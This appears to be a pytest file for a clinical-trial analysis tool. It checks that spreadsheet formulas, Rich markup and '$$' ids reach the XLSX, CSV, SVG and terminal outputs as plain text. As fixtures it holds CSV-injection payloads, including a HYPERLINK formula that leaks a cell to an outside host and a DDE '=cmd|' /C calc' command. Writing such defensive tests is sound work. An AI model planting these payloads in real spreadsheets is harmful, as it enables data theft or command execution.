"""Safe text everywhere: values reach matplotlib, rich, openpyxl and the CSV outputs as plain
text, never as math, markup or formulas (docs/report.md, "Output guarantees")."""

from __future__ import annotations

import csv
import shutil
from importlib import resources
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from ctit.cli import app

runner = CliRunner()
EXAMPLE = Path(str(resources.files("ctit").joinpath("examples", "atra-ctit")))
HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"open")'


def _edit(study: Path, table: str, edit) -> None:
    path = study / f"{table}.csv"
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    edit(rows)
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)


def _rename(study: Path, old: str, new: str) -> None:
    for table in ("patients", "exposures", "labs", "transfusions", "bleeding", "adverse_events"):
        _edit(study, table, lambda rows: [r.__setitem__(0, new) for r in rows[1:] if r and r[0] == old])


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The example study with hostile text: ids '$$' and '=1+1', formula and markup in a text
    field, a 200,000-character cell."""
    root = tmp_path_factory.mktemp("hostile")
    study = root / "study"
    shutil.copytree(EXAMPLE, study, ignore=shutil.ignore_patterns("*.md", "expected.csv"))
    _rename(study, "P01", "$$")
    _rename(study, "P02", "=1+1")

    def text_fields(rows: list[list[str]]) -> None:
        col = rows[0].index("tumor_type")
        rows[3][col] = HYPERLINK
        rows[4][col] = "lung [/x] [bold]"
        rows[5][col] = "gastric " + "x" * 200_000

    _edit(study, "patients", text_fields)
    out = root / "out"
    result = runner.invoke(app, ["analyze", str(study), "--out", str(out), "-q"])
    assert result.exit_code == 0, result.output
    return study, out


def test_every_output_is_written(hostile: tuple[Path, Path]) -> None:
    _, out = hostile
    for name in ("results.json", "patients.csv", "unused_rows.csv", "report.html", "report.docx",
                 "listings.xlsx", "figures/figure7_swimmer.svg"):
        assert (out / name).is_file(), name


def test_dollar_ids_are_drawn_as_written(hostile: tuple[Path, Path]) -> None:
    _, out = hostile
    svg = (out / "figures" / "figure7_swimmer.svg").read_text(encoding="utf-8")
    assert "$$" in svg


def test_workbook_text_is_never_a_formula(hostile: tuple[Path, Path]) -> None:
    from openpyxl import load_workbook

    _, out = hostile
    wb = load_workbook(out / "listings.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    link = [c for c in cells if c.value == HYPERLINK]
    assert link and all(c.data_type == "s" and c.quotePrefix for c in link)
    assert any(c.value == "=1+1" and c.data_type == "s" for c in cells)


def test_patients_csv_applies_the_injection_rule_to_text_only(hostile: tuple[Path, Path]) -> None:
    _, out = hostile
    rows = list(csv.DictReader((out / "patients.csv").open(newline="", encoding="utf-8")))
    ids = {r["patient_id"] for r in rows}
    assert "'=1+1" in ids and "$$" in ids and "=1+1" not in ids
    quoted = [v for r in rows for v in r.values() if v.startswith("'")]
    assert quoted == ["'=1+1"]
    numbers = [v for r in rows for k, v in r.items() if k.startswith(("change_", "plt_", "baseline")) and v]
    assert numbers and all(float(v) == float(v) for v in numbers)


def test_markup_and_long_cells_reach_the_terminal_as_text(hostile: tuple[Path, Path]) -> None:
    study, _ = hostile
    result = runner.invoke(app, ["validate", str(study)])
    assert result.exit_code == 0, result.output


def test_the_csv_rule() -> None:
    from ctit.reports.outputs import safe_frame, safe_text

    assert [safe_text(v) for v in ("=SUM(A1)", "+A1", "-A1", "@A1", "\tx", "\rx")] == \
        ["'=SUM(A1)", "'+A1", "'-A1", "'@A1", "'\tx", "'\rx"]
    assert [safe_text(v) for v in ("-5", "+1.5e3", "-0.25", "lung", "", -5, None)] == \
        ["-5", "+1.5e3", "-0.25", "lung", "", -5, None]
    frame = safe_frame(pd.DataFrame({"table": ["labs"], "source_row": [7], "reason": ["=cmd|' /C calc'!A0"]}))
    assert frame.iloc[0].tolist() == ["labs", 7, "'=cmd|' /C calc'!A0"]


def test_workbook_cells_drop_characters_a_workbook_cannot_hold() -> None:
    from ctit.reports.xlsx import _value

    assert _value("lung\x0bcancer\x00") == "lungcancer"
    assert _value("tab\tand\nnewline") == "tab\tand\nnewline"
